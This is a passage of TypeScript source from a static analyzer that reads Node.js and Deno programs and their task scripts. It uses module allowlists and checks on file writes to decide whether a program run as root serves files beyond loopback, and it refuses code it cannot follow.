        return unread(`deno task ${args.slice(1).join(" ")}, a task the pack does not read`);
    for (let d = cwd; ; d = posix.dirname(d)) {
        for (const file of ["deno.json", "deno.jsonc", "package.json"]) {
            const text = fileText?.(posix.join(d, file));
            if (text === undefined) continue;
            let tasks: Record<string, unknown> | undefined;
            try {
                const parsed = JSON.parse(jsWithoutComments(text).replace(/,(\s*[}\]])/g, "$1")) as Record<
                    string,
                    unknown
                >;
                tasks = (file === "package.json" ? parsed.scripts : parsed.tasks) as
                    Record<string, unknown> | undefined;
            } catch {
                return unread(`${posix.join(d, file)}, a file the pack cannot parse`);
            }
            // The object form's `dependencies` (Deno docs "deno task", "Task dependencies": tasks run before the
            // command, in the same directory), transitively, each read as a script around the main one.
            const lineOf = (task: unknown) =>
                typeof task === "string"
                    ? task
                    : typeof (task as { command?: unknown } | undefined)?.command === "string"
                      ? (task as { command: string }).command
                      : undefined;
            const line = lineOf(tasks?.[name]);
            if (line === undefined)
                return unread(`deno task ${name}, a task the pack cannot find in ${posix.join(d, file)}`);
            const around: [string, string][] = [];
            const seen = new Set<string>([name]);
            const pending = [name];
            while (pending.length > 0) {
                const dependencies = (tasks?.[pending.shift()!] as { dependencies?: unknown } | undefined)
                    ?.dependencies;
                if (dependencies === undefined) continue;
                if (!Array.isArray(dependencies) || dependencies.some(t => typeof t !== "string"))
                    return unread(`deno task ${name}: dependencies the pack cannot read in ${posix.join(d, file)}`);
                for (const dependency of dependencies as string[]) {
                    if (seen.has(dependency)) continue;
                    seen.add(dependency);
                    const text = lineOf(tasks?.[dependency]);
                    if (text === undefined)
                        return unread(
                            `deno task ${name}: dependency ${dependency}, a task the pack cannot find in ${posix.join(d, file)}`,
                        );
                    around.push([dependency, text]);
                    pending.push(dependency);
                }
            }
            return { dir: d, main: [line, ...rest.map(w => `'${w.replace(/'/g, "'\\''")}'`)].join(" "), around };
        }
        if (d === "/") return unread(`deno task ${name}, a task the pack cannot find`);
    }
}

/**
 * The `node` arguments a runner's command line amounts to, when it runs a program the pack may read (else undefined,
 * the runner judged by its command line): tsx (`tsx [watch] FILE`, tsx.is), ts-node (README, `ts-node script.ts`),
 * bun (`bun [run] FILE`, Bun docs "bun run"), deno (`deno run [options] FILE`), pm2 (`pm2 start FILE`, PM2 "Quick
 * Start"), nodemon (`nodemon [options] FILE`), npx/pnpm dlx|exec/bunx/yarn of one of these, and `npm start` / `npm run
 * NAME` (npm docs "npm start": the package's scripts.start, by default `node server.js`; "npm run-script"): the
 * script's command line in the working directory's package.json, read again. `runner` the one whose options they are
 * (nodeEntry: ts-node and deno read by their own, RUNNER_OPTIONS; the others by Node.js's).
 */
function nodeRunnerArgs(
    program: string,
    args: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    depth = 0,
): { runner: string; args: readonly string[] } | undefined {
    if (depth > 3) return undefined;
    const again = (words: readonly string[]) =>
        words.length > 0 && NODE_RUNNERS.test(posix.basename(words[0]))
            ? nodeRunnerArgs(posix.basename(words[0]), words.slice(1), cwd, fileText, depth + 1)
            : undefined;
    // A package manager's run-script (packageScripts): its main script's command line, when it runs in this directory.
    const scripts = packageScripts(program, args, cwd, fileText);
    if (scripts !== undefined) {
        const line = scripts.unread === undefined && scripts.dir === cwd ? scripts.main : undefined;
        return line !== undefined && !/[;&|<>$`]/.test(line) ? again(quotedWords(line)) : undefined;
    }
    switch (program) {
        case "node":
        case "nodejs":
            return { runner: "node", args };
        case "ts-node":
        case "ts-node-esm":
            return { runner: program, args };
        case "tsx":
            return { runner: "node", args: args[0] === "watch" ? args.slice(1) : args };
        case "bun":
            return { runner: "node", args: args[0] === "run" ? args.slice(1) : args };
        case "deno":
            return args[0] === "run" ? { runner: "deno", args: args.slice(1) } : undefined;
        case "pm2":
            return args[0] === "start" && args[1] !== undefined && !/\.(json|ya?ml|config\.[cm]?js)$/.test(args[1])
                ? { runner: "node", args: [args[1]] }
                : undefined;
        case "nodemon":
            return {
                runner: "node",
                args: args.filter(
                    (w, i) => !NODEMON_VALUE_OPTIONS.test(w) && !NODEMON_VALUE_OPTIONS.test(args[i - 1] ?? ""),
                ),
            };
        case "npx":
        case "bunx":
        case "pnpm":
        case "yarn": {
            let rest = program === "pnpm" && /^(dlx|exec)$/.test(args[0] ?? "") ? args.slice(1) : args;
            if (program === "pnpm" && rest === args) return undefined;
            rest = rest.filter((w, i) => !/^(-p|--package)$/.test(w) && !/^(-p|--package)$/.test(rest[i - 1] ?? ""));
            const first = rest.findIndex(w => !w.startsWith("-"));
            return first < 0 ? undefined : again(rest.slice(first));
        }
    }
    return undefined;
}

/**
 * Node.js packages whose default export serves the files of the directory it is given: serve-static
 * (`serveStatic(root, options)`, the middleware behind Express's `express.static(root, [options])`: "The root argument
 * specifies the root directory from which to serve static assets", Express "Serving static files in Express"),
 * koa-static (`serve(root, opts)`), sirv (`sirv(dir, opts)`).
 */
const NODE_STATIC_PACKAGES = /^(serve-static|koa-static|@koa\/static|sirv)$/;
/**
 * Calls handing a file to a client: `fs.createReadStream(path)`, `fs.readFile(path)`, `fs.readFileSync(path)`, Express
 * `res.sendFile(path, {root})` (a path escaping `root` is refused: send's "malicious path") and `res.download(path)`.
 */
const NODE_FILE_CALLS = /(?<![\w$])(?:[\w$]+\.)*(createReadStream|readFileSync|readFile|sendFile|download)\s*\(/g;
/**
 * The binding statements nodeFileServerListeners reads (`const NAME = require('M')`, `const { a: b } = require('M')`,
 * `import NAME[, {...}] from 'M'`, `import * as NAME from 'M'`, `import {...} from 'M'`): set aside where it looks for
 * the file-serving functions' other uses.
 */
const NODE_BINDINGS =
    /(?:const|let|var)\s+(?:[\w$]+|\{[^}]*\})\s*=\s*require\s*\(\s*(['"])[^'"]+\1\s*\)|import\s+(?:\*\s+as\s+[\w$]+|[\w$]+\s*(?:,\s*\{[^}]*\})?|\{[^}]*\})\s*from\s*(['"])[^'"]+\2/g;

/**
 * Modules whose use the pack cannot follow: they run code or programs (`vm`, `child_process`, `worker_threads`,
 * `inspector`: Node.js "inspector.open([port[, host[, wait]]])", a debugger running any code) or relay connections
 * (`net`, `tls`, `dgram` sockets; http-proxy and its middlewares). `cluster` is read (NODE_CLUSTER_OK).
 */
const NODE_OPAQUE_MODULES =
    /^(?:node:)?(child_process|vm|worker_threads|inspector|inspector\/promises|module|net|tls|dgram|http-proxy|http-proxy-middleware|express-http-proxy)$/;
/** Built-in modules that open no socket: a program requiring only these (and its own files) is no server. */
const NODE_LOCAL_MODULES =
    /^(?:node:)?(fs|fs\/promises|path|os|util|crypto|events|stream|zlib|url|querystring|assert|buffer|readline|string_decoder|timers)$/;
/**
 * The modules a program serving beyond loopback may use (the ALLOWLIST, round 61): the web frameworks and middlewares
 * whose file serving the pack reads (express, koa, fastify, polka; NODE_STATIC_PACKAGES, @fastify/static,
 * serve-handler) or that serve no file (helmet, morgan, cors, compression, body-parser, cookie-parser, dotenv, routers)
 * and built-ins opening nothing but their http(s) server. `fs` is read call by call (NODE_FS_CALLS, NODE_FS_WRITES),
 * `cluster` member by member (NODE_CLUSTER_OK). Round 63: prom-client (siimon/prom-client README: "The library does
 * not bundle any web framework, to expose the metrics just return the metrics() function in the registry"; its
 * Pushgateway only sends), express-rate-limit (README "Usage": in-memory counting middleware, any other `store` a
 * package of its own), pino and pino-http (pinojs README: JSON lines to stdout; `pino.destination(dest)` judged as a
 * write, and its transports, modules pino runs in a worker thread, unread).
 */
const NODE_KNOWN_MODULES =
    /^(?:(?:node:)?(http|https|path|os|util|crypto|events|stream|zlib|url|querystring|assert|buffer|string_decoder|timers|fs|fs\/promises|cluster)|express|koa|fastify|polka|helmet|morgan|cors|compression|body-parser|cookie-parser|dotenv|dotenv\/config|koa-router|@koa\/router|koa-bodyparser|@koa\/bodyparser|serve-static|koa-static|@koa\/static|sirv|@fastify\/static|serve-handler|prom-client|express-rate-limit|pino|pino-http)$/;
/** The `fs` functions such a program may call: the reads NODE_FILE_CALLS judges by their path, and what reads no file. */
const NODE_FS_CALLS = /^(readFile|readFileSync|createReadStream|existsSync|statSync|stat|mkdirSync|mkdir)$/;
/**
 * The `fs` writes such a program may call, each judged by the path it writes (nodeWriteRefusal): Node.js "File
 * system", `fs.writeFile(file, data)`, `fs.appendFile(path, data)` and their Sync forms, `fs.createWriteStream(path)`
 * (morgan's README, "write logs to a file": `fs.createWriteStream(path.join(__dirname, 'access.log'), { flags: 'a' })`).
 */
const NODE_FS_WRITES = /^(writeFile|writeFileSync|appendFile|appendFileSync|createWriteStream)$/;
/**
 * What a program may do with node:cluster (Node.js "Cluster": "cluster.fork() spawns a new worker process", which runs
 * the main module again with the primary's arguments and execArgv): test its role, watch its workers, and fork with no
 * env. `setupPrimary`/`setupMaster`/`settings` (`exec`, `args`, `execArgv`: another program) and `fork(env)` (an
 * environment such as NODE_OPTIONS) start a worker the pack does not read.
 */
const NODE_CLUSTER_OK = /^(isPrimary|isMaster|isWorker|worker|workers|on|once)$/;
/**
 * What no program the pack reads uses: code it cannot follow (eval under any name: the global object's, `(0, eval)`;
 * `Function`; `module.require`/`process.mainModule.require`; the global object), runtimes' own servers and files
 * (Bun, Deno), and `process` beyond its environment, arguments and output (`process.chdir` moves the directory a
 * relative root is served from).
 */
const NODE_UNREAD_CODE: [RegExp, string][] = [
    [
        /(?<![\w$'"`])eval(?![\w$'"`])|(?<![\w$.])Function\s*\(|\bnew\s+Function\b|\bprocess\s*\.\s*(binding|dlopen)\b/,
        "eval",
    ],
    [/\.\s*require\s*\(|(?<![\w$.'"`])(globalThis|global)\s*[.[]/, "the global object or a module's require"],
    [/(?<![\w$.'"`])(Bun|Deno)\s*\./, "the Bun or Deno runtime's own servers and files"],
];
/**
 * `process` members such a program may use: its environment, arguments, output and state, and dropping root's
 * identity (Node.js "Process", process.setuid(id) "sets the user identity of the process", setgid, setgroups,
 * initgroups, seteuid, setegid): run as root, any identity it takes reaches no more than root did.
 */
const NODE_PROCESS_OK =
    /^(env|cwd|argv|exit|exitCode|on|once|pid|platform|nextTick|stdout|stderr|uptime|memoryUsage|hrtime|version|versions|title|setuid|setgid|seteuid|setegid|setgroups|initgroups|getuid|getgid|geteuid|getegid|getgroups)$/;

/**
 * Why the pack refuses a Node.js program's write to `path` (a jsPath value, relative to `cwd`), undefined when it
 * accepts it (round 63): a log or pid file (`.log`, `.pid`) at a path the pack resolves, under /var/log or /run
 * (FHS 3.0: "/var/log: Log files and directories", "/run: Run-time variable data", its PID files) or beside the
 * program's own files (`dirs`), and no file the node reads as configuration or code (NODE_CONFIG_PATHS,
 * READ_BEFORE_WRITE, SERVER_CONFIGS) nor under a directory pods write (podWritableRoot). A path from a request, or
 * anything else, stays refused: what is written there may be what the program logs of a request.
 */
function nodeWriteRefusal(path: string | undefined, cwd: string | undefined, dirs: string[]): string | undefined {
    const full =
        path === undefined || (!path.startsWith("/") && cwd === undefined)
            ? undefined
            : posix.resolve(cwd ?? "/", path);
    if (full === undefined) return "a path the pack cannot resolve";
    const p = full.replace(/^\/var\/run(?=\/|$)/, "/run");
    if ([...NODE_CONFIG_PATHS, ...READ_BEFORE_WRITE, ...SERVER_CONFIGS.map(c => c.path)].some(c => c.test(p)))
        return "a file the node reads as configuration or code";
    const root = podWritableRoot(p);
    if (root) return `under ${root}, a node directory the pack lets pods write`;
    const beside = (d: string) => d !== "/" && p.startsWith(`${d.replace(/\/$/, "")}/`);
    if (/[^/]\.(log|pid)$/.test(p) && (["/var/log", "/run"].some(beside) || dirs.some(beside))) return undefined;
    return "no log or pid file under /var/log, /run or beside the program";
}

/**
 * A Node.js program run as root that serves files, or code the pack cannot read, from its own code, read as
 * pythonFileServerListeners reads a Python program: the script, `-e` code or standard input user data gave
 * (nodeEntry; its runners: nodeRunnerArgs) with the local modules it loads that user data wrote (`require('./x')`,
 * `import`, `-r ./x`; Node.js "Modules: CommonJS", "All together": X, X.js, X.json, X/index.js):
 * - the directories the static-file APIs serve (`express.static(root)` under any name `express` or its `static` is
 *   bound to, NODE_STATIC_PACKAGES, @fastify/static's `root` and serve-handler's `public` options) and the files
 *   NODE_FILE_CALLS hand out (sendFile's `root` when given), each by jsPath: a computed one (`'/' + req.url`) a
 *   directory the pack cannot know;
 * - what it cannot follow (NODE_OPAQUE_MODULES, NODE_UNREAD_CODE, a computed module, a local module user data did not
 *   write): a program the pack does not read, fail closed;
 * - beyond loopback, an ALLOWLIST (round 61: a list of the APIs that serve files cannot end): any module but
 *   NODE_KNOWN_MODULES, `fs` used other than by a NODE_FS_CALLS call, `process` beyond NODE_PROCESS_OK: "a program the
 *   pack cannot read that serves beyond loopback";
 * on the hosts of its `.listen(...)` calls (Node.js "net", `server.listen([port[, host[, backlog]]][, callback])`: "If
 * host is omitted, the server will accept connections on the unspecified IPv6 address (::) ... or the unspecified IPv4
 * address (0.0.0.0)"; `listen({port, host})` alike; Express's and Koa's `app.listen` are http.Server's), every address
 * when one is no literal nor a name assigned one, or when it names none and loads a module that may listen (anything
 * but NODE_LOCAL_MODULES), or an unknown module's `.serve`/`.start`/`.open`/`Server` starts one. A script user data did
 * not write is judged by its command line and environment (unreadListeners, environmentListeners).
 */
function nodeFileServerListeners(
    runnerArgs: readonly string[],
    cwd: string | undefined,
    program: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
    _command?: string,
    depth = 0,
): Listener[] {
    // A package manager's run-scripts (packageScripts), the one asked for and those around it: each a command line run
    // in the package's directory, read as a Node.js program when it is one the reader follows, else code the pack
    // cannot read (fail closed).
    const scripts = packageScripts(program, runnerArgs, cwd, fileText, view);
    if (scripts !== undefined) {
        const what = (name: string, line: string) =>
            `${program} ${runnerArgs.join(" ")}: ${name === "" ? "its script" : `scripts.${name}`} (${line})`;
        if (scripts.unread !== undefined)
            return [
                {
                    server: `${program} ${runnerArgs.join(" ")}`,
                    binds: [],
                    serves: { unread: `${program} ${runnerArgs.join(" ")}: ${scripts.unread}` },
                },
            ];
        return [
            ...scripts.around,
            ...(scripts.main === undefined ? [] : ([["", scripts.main]] as [string, string][])),
        ].flatMap(([name, line]): Listener[] => {
            const words = /[;&|<>$`]/.test(line) ? [] : quotedWords(line);
            const runner = posix.basename(words[0] ?? "");
            // A compiler listens nowhere; what it writes is judged by viewingJudge (tscWrites).
            if (tscWrites(words, scripts.dir, fileText) !== undefined) return [];
            const run = NODE_RUNNERS.test(runner)
                ? nodeRunnerArgs(runner, words.slice(1), scripts.dir, fileText)
                : undefined;
            if (
                run !== undefined &&
                nodeEntry(run.args, scripts.dir, fileText, view, run.runner) !== undefined &&
                depth < 3
            )
                return nodeFileServerListeners(
                    words.slice(1),
                    scripts.dir,
                    runner,
                    fileText,
                    view,
                    undefined,
                    depth + 1,
                );
            return [
                {
                    server: what(name, line),
                    binds: [],
                    serves: { unread: `${what(name, line)}, a command line the pack does not read` },
                },
            ];
        });
    }
    if (program === "deno" && runnerArgs[0] === "serve")
        return denoServeListeners(runnerArgs.slice(1), cwd, fileText, view);
    const run = nodeRunnerArgs(program, runnerArgs, cwd, fileText);
    const entry = run === undefined ? undefined : nodeEntry(run.args, cwd, fileText, view, run.runner);
    return entry === undefined ? [] : nodeProgramListeners(program, entry, cwd, fileText, view);
}

/**
 * `deno serve [--host H] [--port P] [options] FILE` (Deno docs "deno serve": FILE's default export's `fetch` handles
 * every request; "--port <port>: The TCP port to serve on. Pass 0 to pick a random free port [default: 8000]",
 * "--host <host>: The TCP address to serve on, defaulting to 0.0.0.0"; the net permission for that address is granted
 * by deno serve itself): a listener on H:P serving what FILE serves (nodeProgramListeners; a handler the pack finds no
 * server in is a program it does not read), besides FILE's own listeners within its permissions (denoNetwork).
 */
function denoServeListeners(
    args: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Listener[] {
    let host = "0.0.0.0";
    let port = "8000";
    const rest: string[] = [];
    for (let i = 0; i < args.length; i++) {
        const [, name, glued] = /^(--host|--port)(?:=(.*))?$/s.exec(args[i]) ?? [];
        if (name === undefined) rest.push(args[i]);
        else if (name === "--host") host = glued ?? args[++i] ?? "";
        else port = glued ?? args[++i] ?? "";
    }
    const server = `deno serve ${args.join(" ")}`;
    const bind = /:/.test(host) ? `[${host}]:${port}` : `${host}:${port}`;
    const entry = nodeEntry(rest, cwd, fileText, view, "deno");
    if (entry === undefined || entry.unread !== undefined)
        return [{ server, binds: [bind], serves: { unread: `${server} (${entry?.unread ?? "its module: unread"})` } }];
    const own = nodeProgramListeners("deno", entry, cwd, fileText, view);
    const handler = nodeProgramListeners("deno", { ...entry, network: undefined }, cwd, fileText, view);
    const served: Listener[] =
        handler.length > 0
            ? handler.map(l => ({ ...l, server, binds: [bind] }))
            : [{ server, binds: [bind], serves: { unread: `${server} (its fetch handler in ${entry.path})` } }];
    return [...served, ...own];
}

/** The listeners of the Node.js program `entry` (nodeEntry) a runner runs, as nodeFileServerListeners reads them. */
function nodeProgramListeners(
    program: string,
    entry: NonNullable<ReturnType<typeof nodeEntry>>,
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Listener[] {
    if (entry.unread !== undefined)
        return [{ server: `${program} ${entry.label}`, binds: [], serves: { unread: `${program}: ${entry.unread}` } }];
    // deno's sandbox (denoNetwork): whatever its code does, it listens only where its permissions let it, if at all.
    const network = entry.network;
    if (network !== undefined)
        return network.length === 0
            ? []
            : nodeProgramListeners(program, { ...entry, network: undefined }, cwd, fileText, view).map(l => ({
                  ...l,
                  binds: network,
              }));
    const files: { path: string; text: string; dir: string; code: string }[] = [];
    const opaque = new Set<string>();
    const unknown = new Set<string>();
    const packages = new Set<string>();
    let netLoaded = false;
    const read = (path: string, raw: string, dir: string) => {
        if (files.some(f => f.path === path)) return;
        if (files.length >= 50) return void opaque.add(`${path}, past the modules the pack reads`);
        const text = jsWithoutComments(raw);
        for (const m of text.matchAll(
            /(?<![\w$.])(?:require|import)\s*\(\s*([^)]*?)\s*\)|(?:^|[;\s])(?:import|export)\s[^;'"`]*?\bfrom\s*(['"][^'"]*['"])|(?:^|[;\s])import\s*(['"][^'"]*['"])/gm,
        ))
            load(m[1] ?? m[2] ?? m[3], dir);
        // Code, its strings emptied (a word in a message is no call), a template's `${}` kept as code.
        let code = "";
        for (let i = 0; i < text.length; i++) {
            const ch = text[i];
            if (ch !== "'" && ch !== '"' && ch !== "`") code += ch;
            else {
                const end = jsStringEnd(text, i);
                const body = text.slice(i + 1, end - 1);
                code += ch === "`" ? `\`${(body.match(/\$\{[^}]*\}/g) ?? []).join(" ")}\`` : `${ch}${ch}`;
                i = end - 1;
            }
        }
        files.push({ path, text, dir, code });
        for (const [pattern, what] of NODE_UNREAD_CODE) if (pattern.test(code)) opaque.add(what);
        for (const m of code.matchAll(/(?<![\w$.])process\s*(?:\.\s*([\w$]+)|\[)/g))
            if (!NODE_PROCESS_OK.test(m[1] ?? "")) unknown.add(`process${m[1] === undefined ? "[...]" : `.${m[1]}`}`);
    };
    const load = (expr: string, dir: string) => {
        const name = jsString(expr);
        if (name === undefined) opaque.add(`a computed module (${expr.trim()})`);
        else if (/^(?:node:)?net$/.test(name)) netLoaded = true;
        else if (NODE_OPAQUE_MODULES.test(name)) opaque.add(name);
        else if (!/^\.{0,2}\//.test(name)) packages.add(name);
        else {
            const found = nodeModuleFile(posix.resolve(dir, name), fileText, view);
            if (found !== undefined) return read(found.path, found.text, posix.dirname(found.path));
            opaque.add(`${posix.resolve(dir, name)}, a module user data does not write`);
        }
    };
    read(entry.path, entry.text, entry.dir);
    // A preload given as a file: URL is that file; one by another URL (data:, http:) or a package the pack does not
    // know runs code it cannot read before the program (NODE_PRELOAD_OPTIONS).
    for (const preload of entry.preloads) {
        const url = /^file:(?:\/\/)?(\/[\s\S]*)$/.exec(preload);
        if (url)
            load(
                JSON.stringify(
                    url[1].replace(/%([0-9a-f]{2})/gi, (_, h: string) => String.fromCharCode(parseInt(h, 16))),
                ),
                cwd ?? "/",
            );
        else if (/^[a-z][\w+.-]*:/i.test(preload) && !/^node:/.test(preload)) opaque.add(`${preload}, a preloaded URL`);
        else if (!/^\.{0,2}\//.test(preload) && !NODE_KNOWN_MODULES.test(preload))
            opaque.add(`${preload}, a preloaded package the pack does not read`);
        else load(JSON.stringify(preload), cwd ?? "/");
    }
    for (const p of packages) if (!NODE_KNOWN_MODULES.test(p)) unknown.add(`${p}, a package the pack does not read`);
    // Workers inherit the primary's environment and execArgv (Node.js "Cluster", `cluster.settings.execArgv`: "Defaults
    // to process.execArgv"): a program that forks and changes them (NODE_OPTIONS) starts workers the pack does not read.
    if ([...packages].some(p => /^(?:node:)?cluster$/.test(p))) {
        // Code given by -e or standard input has no main module: a worker runs the first argument (process.argv[1]).
        if (/\[(eval|stdin)\]$/.test(entry.path))
            opaque.add("cluster workers of code given inline, which run the program its first argument names");
        for (const f of files)
            for (const m of f.code.matchAll(/(?<![\w$.])process\s*\.\s*(env|execArgv|execPath)(?![\w$])/g)) {
                const rest = f.code.slice((m.index ?? 0) + m[0].length);
                const read =
                    m[1] === "env" &&
                    /^\s*(?:\.\s*[\w$]+(?![\w$])|\[\s*(['"])\1\s*\])(?!\s*(?:[-+*/%&|^]|\*\*|<<|>>>?|\?\?|&&|\|\|)?=(?!=)|\s*(?:\+\+|--))/.test(
                        rest,
                    );
                if (!read) opaque.add(`process.${m[1]} beyond reading a variable, which cluster workers inherit`);
            }
    }
    const all = files.map(f => f.text).join("\n");
    const served: { dir: string | undefined; api: string }[] = [];
    const serve = (dir: string | undefined, api: string) =>
        served.push({ dir: dir === undefined ? undefined : servedDirectory(dir, cwd), api });
    for (const file of files) {
        const path = (expr: string | undefined) =>
            expr === undefined ? undefined : jsPath(expr, file.text, file.dir, cwd);
        // A write (NODE_FS_WRITES, pino.destination) whose path nodeWriteRefusal refuses: a program the pack cannot read.
        const write = (expr: string | undefined, api: string) => {
            const target = path(expr);
            const why = nodeWriteRefusal(target, cwd, [...new Set(files.map(f => f.dir))]);
            if (why) unknown.add(`${api} of ${target ?? expr ?? "no path"}, ${why}`);
        };
        const callArgs = (m: RegExpMatchArray) => jsCall(file.text, (m.index ?? 0) + m[0].length - 1)?.args ?? [];
        const escape = (n: string) => n.replace(/\$/g, "\\$");
        const bound = (pattern: RegExp) =>
            [
                ...file.text.matchAll(
                    /(?:const|let|var)\s+([\w$]+)\s*=\s*require\s*\(\s*(['"])([^'"]+)\2\s*\)|import\s+(?:\*\s+as\s+)?([\w$]+)\s*(?:,\s*\{[^}]*\}\s*)?from\s*(['"])([^'"]+)\5/g,
                ),
            ]
                .filter(m => pattern.test(m[3] ?? m[6]))
                .map(m => escape(m[1] ?? m[4]));
        // Named imports (`import { a as b } from 'M'`, `const { a: b } = require('M')`): [module, member, local name].
        const members = [
            ...file.text.matchAll(
                /(?:const|let|var)\s*\{([^}]*)\}\s*=\s*require\s*\(\s*(['"])([^'"]+)\2\s*\)|import\s+(?:[\w$]+\s*,\s*)?\{([^}]*)\}\s*from\s*(['"])([^'"]+)\5/g,
            ),
        ].flatMap(m =>
            (m[1] ?? m[4]).split(",").flatMap(item => {
                const named = /^\s*([\w$]+)\s*(?:(?::|\bas\b)\s*([\w$]+))?\s*$/.exec(item.replace(/=[\s\S]*$/, ""));
                return named ? [{ module: m[3] ?? m[6], member: named[1], local: named[2] ?? named[1] }] : [];
            }),
        );
        const express = ["express", ...bound(/^express$/)];
        // express's `static` member, and any member of a static package (`import { default as serve } from 'sirv'`).
        const staticNames = members
            .filter(m => (m.module === "express" && m.member === "static") || NODE_STATIC_PACKAGES.test(m.module))
            .map(m => escape(m.local));
        const calls = new RegExp(
            `(?<![\\w$.])(?:(?:${express.join("|")}|require\\s*\\(\\s*['"]express['"]\\s*\\))\\.static|require\\s*\\(\\s*['"](?:serve-static|koa-static|@koa/static|sirv)['"]\\s*\\)${[
                ...bound(NODE_STATIC_PACKAGES),
                ...staticNames,
            ]
                .map(n => `|${n}`)
                .join("")})\\s*\\(`,
            "g",
        );
        for (const m of file.text.matchAll(calls))
            serve(
                path(jsCall(file.text, (m.index ?? 0) + m[0].length - 1)?.args[0]),
                /\.static\s*\($/.test(m[0]) || staticNames.length > 0 ? "express.static" : "serve-static",
            );
        // `express.static` handed on uncalled (`const s = express.static`): what it serves is unknown.
        if (new RegExp(`(?<![\\w$.])(?:${express.join("|")})\\.static(?!\\s*\\()`).test(file.text))
            serve(undefined, "express.static");
        // The file-serving functions are followed only where they are called, or express's members named (`express.json()`):
        // bound to another name (`const serve = serveStatic`, `const { static: files } = express`), reached by brackets
        // (`express['static']`, `require('express')['static']`) or handed on (`app.use(serveStatic)`, `module.exports =
        // express`, `.default`), what they serve is unknown (fail closed). The bindings the reader reads are set aside.
        const handler = bound(/^serve-handler$/);
        const uses = file.text.replace(NODE_BINDINGS, b => " ".repeat(b.length));
        const requireOf = (modules: string) => String.raw`(?:require|import)\s*\(\s*['"](?:${modules})['"]\s*\)`;
        const handedOn = [
            // A function: only called.
            String.raw`(?:${[...bound(NODE_STATIC_PACKAGES), ...staticNames, ...handler, requireOf(NODE_STATIC_PACKAGES.source.slice(2, -2)), requireOf("serve-handler")].join("|")})(?![\w$]|\s*\()`,
            // express: called (the application), or a member named.
            String.raw`(?:${[...bound(/^express$/), requireOf("express")].join("|")})(?![\w$]|\s*\(|\.(?!default(?![\w$]))[\w$])`,
        ];
        for (const pattern of handedOn)
            if (new RegExp(String.raw`(?<![\w$.])${pattern}`).test(uses)) serve(undefined, "a file-serving function");
        // serve-handler `handler(request, response, options)`: options.public, "By default, the current working
        // directory will be served" (vercel/serve-handler README, "public"); options the pack cannot read: unknown.
        for (const m of uses.matchAll(
            new RegExp(String.raw`(?<![\w$.])(?:${[...handler, requireOf("serve-handler")].join("|")})\s*\(`, "g"),
        )) {
            const options = jsCall(uses, (m.index ?? 0) + m[0].length - 1)?.args[2];
            const object = options === undefined ? "{}" : jsObject(options, file.text);
            serve(
                object === undefined ? undefined : path(jsProperty(object, "public") ?? "process.cwd()"),
                "serve-handler",
            );
        }
        for (const m of file.text.matchAll(NODE_FILE_CALLS)) {
            const given = jsCall(file.text, (m.index ?? 0) + m[0].length - 1)?.args ?? [];
            const root = m[1] === "sendFile" ? jsProperty(given[1], "root") : undefined;
            serve(path(root ?? given[0]), m[1]);
        }
        // `fs` by the allowlist: its functions called by name (NODE_FS_CALLS, the reads judged above, under a name
        // of their own too), any other use of the module (`util.promisify(fs.readFile)`, fs.openSync) unread.
        const fsModule = /^(?:node:)?fs(\/promises)?$/;
        const fsNames = bound(fsModule);
        for (const name of fsNames)
            for (const m of file.text.matchAll(
                new RegExp(
                    `(?<![\\w$.'"/:])${name}(?![\\w$'"])(\\s*\\.\\s*(?:promises\\s*\\.\\s*)?([\\w$]+)(\\s*\\()?)?`,
                    "g",
                ),
            )) {
                const declared = /(?:const|let|var|import|\*\s*as)\s*$/.test(file.text.slice(0, m.index ?? 0));
                if (!declared && m[3] !== undefined && NODE_FS_WRITES.test(m[2])) write(callArgs(m)[0], `fs.${m[2]}`);
                else if (!declared && (m[2] === undefined || !NODE_FS_CALLS.test(m[2]) || m[3] === undefined))
                    unknown.add(`fs${m[2] === undefined ? "" : `.${m[2]}`} used as the pack does not read`);
            }
        for (const m of members.filter(m => fsModule.test(m.module))) {
            if (NODE_FS_WRITES.test(m.member)) {
                // Called by its name only: handed on (`promisify(writeFile)`) it writes where the pack cannot see.
                const local = escape(m.local);
                for (const c of file.text.matchAll(new RegExp(`(?<![\\w$.])${local}\\s*\\(`, "g")))
                    write(callArgs(c)[0], `fs.${m.member}`);
                if ([...file.text.matchAll(new RegExp(`(?<![\\w$.])${local}(?![\\w$]|\\s*\\()`, "g"))].length > 1)
                    unknown.add(`fs.${m.member} used as the pack does not read`);
            } else if (!NODE_FS_CALLS.test(m.member)) unknown.add(`fs.${m.member}, a file API the pack does not read`);
            else if (m.local !== m.member)
                for (const c of file.text.matchAll(new RegExp(`(?<![\\w$.])${escape(m.local)}\\s*\\(`, "g")))
                    serve(path(jsCall(file.text, (c.index ?? 0) + c[0].length - 1)?.args[0]), m.member);
        }
        const fsRequire = String.raw`require\s*\(\s*['"](?:node:)?fs(?:/promises)?['"]\s*\)`;
        const requires = [...file.text.matchAll(new RegExp(fsRequire, "g"))].length;
        const boundRequires = [
            ...file.text.matchAll(
                new RegExp(String.raw`(?:const|let|var)\s*(?:[\w$]+|\{[^}]*\})\s*=\s*${fsRequire}`, "g"),
            ),
        ].length;
        // `require('fs').member(...)`: the reads judged by NODE_FILE_CALLS above, the writes here.
        let calledRequires = 0;
        for (const m of file.text.matchAll(
            new RegExp(String.raw`${fsRequire}\s*\.\s*(?:promises\s*\.\s*)?([\w$]+)\s*\(`, "g"),
        ))
            if (NODE_FS_WRITES.test(m[1])) {
                calledRequires++;
                write(callArgs(m)[0], `fs.${m[1]}`);
            } else if (NODE_FS_CALLS.test(m[1])) calledRequires++;
        if (requires > boundRequires + calledRequires) unknown.add("fs used as the pack does not read");
        // pino.destination(dest) (pinojs docs/api.md: "dest: a file path or file descriptor"), `{ dest }`: a write.
        if ([...packages].some(p => /^pino(-http)?$/.test(p))) {
            // pino's transports (pinojs docs/transports.md: "A transport is a module", `pino.transport({ target })`,
            // the `transport`, `targets` and `pipeline` options) run a module the pack does not read in a worker thread.
            if (/(?<![\w$])(transport|targets|pipeline)\s*:|\.\s*transport\s*\(/.test(file.code))
                opaque.add("a pino transport (a module run in a worker thread)");
            for (const m of file.text.matchAll(/(?<![\w$])destination\s*\(/g)) {
                const given = callArgs(m)[0];
                const dest = /^\{[\s\S]*\}$/.test(given ?? "") ? jsProperty(given, "dest") : given;
